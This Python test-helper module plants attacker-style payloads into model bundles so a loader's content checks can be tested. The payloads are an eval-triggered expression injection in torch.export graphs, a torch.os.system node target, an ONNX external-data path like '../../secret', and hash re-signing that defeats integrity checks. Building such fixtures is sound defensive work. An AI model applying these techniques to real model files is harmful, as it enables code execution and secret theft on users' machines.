"""Planted bundle files for the fault matrix and the tests: what an attacker who can write a
bundle (and so recompute its hashes) would put there.

- :func:`plant_expression`: a symbolic-shape expression of ``model.pt2``'s JSON graph rewritten
  to ``(open(MARKER, 'w').close() or Symbol(...))``, which sympy's parser (``eval``) runs when
  ``torch.export.load`` reads the archive;
- :func:`plant_target`: a graph node whose target is ``torch.os.system``;
- :func:`plant_external_data`: an ONNX initializer whose data lives in an outside file
  (``../../secret`` or an absolute path);
- :func:`plant_custom_domain`: an ONNX node of a custom operator domain;
- :func:`resign_bundle`: ``bundle.json``'s records of those files and its ``bundle_sha256``
  recomputed (and, for a bundle in the store, the manifest's records and ``manifest_sha256``), so
  that only the checks of the content stand between the file and the reader.
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path
from typing import Any


def _rewrite_pt2(path: Path, edit: Any) -> None:
    with zipfile.ZipFile(path) as src:
        members = [(info, src.read(info.filename)) for info in src.infolist()]
    with zipfile.ZipFile(path, "w") as out:
        for info, data in members:
            if info.filename.endswith("models/model.json"):
                graph = json.loads(data)
                edit(graph)
                data = json.dumps(graph).encode()
            out.writestr(info, data)


def _expr_nodes(value: Any) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = []
    todo = [value]
    while todo:
        current = todo.pop()
        if isinstance(current, dict):
            if isinstance(current.get("expr_str"), str):
                found.append(current)
            todo.extend(current.values())
        elif isinstance(current, list):
            todo.extend(current)
    return found


def plant_expression(path: Path, marker: str) -> None:
    """Every ``expr_str`` of the archive's graph also creates the file ``marker`` when evaluated."""

    def edit(graph: dict[str, Any]) -> None:
        nodes = _expr_nodes(graph)
        if not nodes:
            raise SystemExit(f"{path} has no symbolic-shape expression to plant into")
        for node in nodes:
            node["expr_str"] = f"(open({marker!r}, 'w').close() or {node['expr_str']})"

    _rewrite_pt2(path, edit)


def plant_target(path: Path) -> None:
    """The graph's first operator node calls ``torch.os.system`` instead."""

    def edit(graph: dict[str, Any]) -> None:
        nodes = graph["graph_module"]["graph"]["nodes"]
        node = next(n for n in nodes if str(n.get("target", "")).startswith("torch.ops.aten."))
        node["target"] = "torch.os.system"

    _rewrite_pt2(path, edit)


def plant_external_data(path: Path, location: str) -> None:
    """The ONNX graph's largest initializer reads its bytes from ``location`` (outside the bundle)."""
    import onnx

    model = onnx.load(str(path), load_external_data=False)
    tensor = max(model.graph.initializer, key=lambda t: len(t.raw_data))
    size = len(tensor.raw_data)
    tensor.ClearField("raw_data")
    tensor.data_location = onnx.TensorProto.EXTERNAL
    del tensor.external_data[:]
    for key, value in (("location", location), ("offset", "0"), ("length", str(size))):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    onnx.save(model, str(path))


def plant_custom_domain(path: Path, domain: str = "com.example.custom") -> None:
    """The ONNX graph's first node becomes an operator of the custom domain ``domain``."""
    import onnx

    model = onnx.load(str(path), load_external_data=False)
    model.graph.node[0].domain = domain
    model.opset_import.append(onnx.helper.make_opsetid(domain, 1))
    onnx.save(model, str(path))


def resign_bundle(folder: Path, rels: list[str]) -> None:
    """Record the current size and sha256 of ``rels`` in ``folder/bundle.json`` and recompute its
    ``bundle_sha256``; in a store artifact (a ``manifest.json`` beside it) re-sign that too."""
    from optembed.checksum import file_sha256
    from optembed.export.bundle import bundle_digest
    from pipelines.store import manifest_digest

    meta_path = folder / "bundle.json"
    meta = json.loads(meta_path.read_text())
    for rel in rels:
        meta["files"][rel] = {"size": (folder / rel).stat().st_size, "sha256": file_sha256(folder / rel)}
    meta["bundle_sha256"] = bundle_digest(meta)
    meta_path.write_text(json.dumps(meta, indent=2) + "\n")
    manifest = folder / "manifest.json"
    if manifest.is_file():
        data = json.loads(manifest.read_text())
        for rel in [*rels, "bundle.json"]:
            data["files"][rel] = {"size": (folder / rel).stat().st_size, "sha256": file_sha256(folder / rel)}
        data["manifest_sha256"] = manifest_digest(data)
        manifest.write_text(json.dumps(data, indent=2) + "\n")
